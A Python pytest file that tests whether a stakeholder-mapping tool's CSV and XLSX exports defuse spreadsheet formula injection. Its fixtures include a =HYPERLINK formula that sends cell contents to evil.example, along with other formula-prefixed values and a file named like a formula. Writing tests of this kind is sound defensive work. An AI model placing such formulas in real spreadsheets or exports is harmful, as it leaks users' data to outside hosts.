"""Hostile text in outputs (issue 12): spreadsheet formulas, terminal escapes, unwritable outputs.

Every test here failed on the code before the fix.
"""

import csv
import io
import json
import os
import shutil
from pathlib import Path

import networkx as nx
import pytest
from openpyxl import load_workbook

import powermap_kit as pk
from powermap_kit.cli import main
from powermap_kit.grading import export_cohort, grade_cohort
from powermap_kit.tabular import export_csv, export_graphml, import_csv

FIXTURES = Path(__file__).parent / "fixtures"
KEY = FIXTURES / "grading_key.json"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
RISKY = [LEAK, "+1+2", "-2+3", "@SUM(A1:A9)", "=1+2"]


def _submissions(tmp_path: Path) -> Path:
    folder = tmp_path / "subs"
    folder.mkdir()
    data = json.loads((FIXTURES / "grading_good.json").read_text("utf-8"))
    for n, author in enumerate(RISKY):
        data["meta"]["author"] = author
        data["stakeholders"][0]["name"] = RISKY[-1 - n]
        (folder / f"s{n}.json").write_text(json.dumps(data, ensure_ascii=False), "utf-8")
    (folder / "=cmd.json").write_text("{oops", "utf-8")           # a file name that looks like a formula
    return folder


def _xlsx_cells(path: Path) -> list:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(path: Path) -> list:
    cells = _xlsx_cells(path)
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _assert_defused(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):                # a minus is fine only on a number
                float(cell)


# ---- 1. spreadsheet formula injection ------------------------------------------------------

def test_score_xlsx_has_no_formula_and_numbers_stay_numbers(tmp_path):
    out = tmp_path / "scores.xlsx"
    assert main(["score", "--key", str(KEY), str(_submissions(tmp_path)), "--format", "xlsx", "--out", str(out)]) == 1
    cells = _assert_no_formula(out)
    values = [c.value for c in cells]
    assert LEAK in values and "=cmd" in values                 # kept as text, shown as typed
    assert any(isinstance(v, float) and 0 < v <= 100 for v in values)


def test_score_csv_cells_are_defused(tmp_path, capsys):
    assert main(["score", "--key", str(KEY), str(_submissions(tmp_path)), "--format", "csv"]) == 1
    rows = _csv_rows(capsys.readouterr().out)
    _assert_defused(rows)
    first = {r[0]: r for r in rows[1:]}
    assert "'" + LEAK in first and "'-2+3" in first
    assert float(first["'" + LEAK][-2]) > 0                     # the total is still a plain number


def test_export_cohort_csv_and_xlsx(tmp_path):
    frame = grade_cohort(_submissions(tmp_path), KEY)
    _assert_defused(_csv_rows(export_cohort(frame, tmp_path / "c.csv").read_text("utf-8")))
    cells = _assert_no_formula(export_cohort(frame, tmp_path / "c.xlsx"))
    assert "@SUM(A1:A9)" in [c.value for c in cells]


def _risky_map() -> pk.PowerMap:
    pm = pk.PowerMap()
    for n, name in enumerate(RISKY):
        pm.add_stakeholder({"id": f"p{n}", "name": name, "title": "+CIO", "roles": ["approver"], "power": 4,
                            "stance": "oppose", "notes": "- met at the fair\n- plays golf"})
    return pm


def test_export_csv_defuses_and_import_keeps_text(tmp_path, capsys):
    src = tmp_path / "m.json"
    pk.save_map(_risky_map(), src)
    assert main(["export", str(src), "--to", "csv", "--out", "-"]) == 0
    rows = _csv_rows(capsys.readouterr().out)
    _assert_defused(rows)
    assert rows[1][5] == "4"                                    # power stays a number
    export_csv(_risky_map(), tmp_path / "m.csv")
    once = import_csv(tmp_path / "m.csv").map
    # Import keeps the cell as plain text, defusing quote included; nothing is evaluated or lost.
    assert [p.name for p in once] == ["'" + name for name in RISKY]
    assert [p.power for p in once] == [4] * len(RISKY)
    # A second round trip changes nothing more: the quote is added once, never piled up.
    export_csv(once, tmp_path / "again.csv")
    twice = import_csv(tmp_path / "again.csv").map
    assert [(p.name, p.title, p.notes) for p in twice] == [(p.name, p.title, p.notes) for p in once]


def test_import_keeps_formula_text_as_plain_text():
    quoted = '"' + LEAK.replace('"', '""') + '"'
    person = next(iter(import_csv(io.StringIO(f"Name,Title\n{quoted},'=1+2\n")).map))
    assert (person.name, person.title) == (LEAK, "'=1+2")


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_action_plan_export_is_defused(tmp_path, suffix):
    src = tmp_path / "m.json"
    pk.save_map(_risky_map(), src)
    out = tmp_path / f"plan.{suffix}"
    assert main(["analyse", str(src), "--actions", str(out), "--out", str(tmp_path / "a.txt")]) == 0
    if suffix == "xlsx":
        values = [c.value for c in _assert_no_formula(out)]
        assert any(isinstance(v, str) and LEAK in v for v in values)
    else:
        rows = _csv_rows(out.read_text("utf-8"))
        _assert_defused(rows)
        assert len(rows) > 1
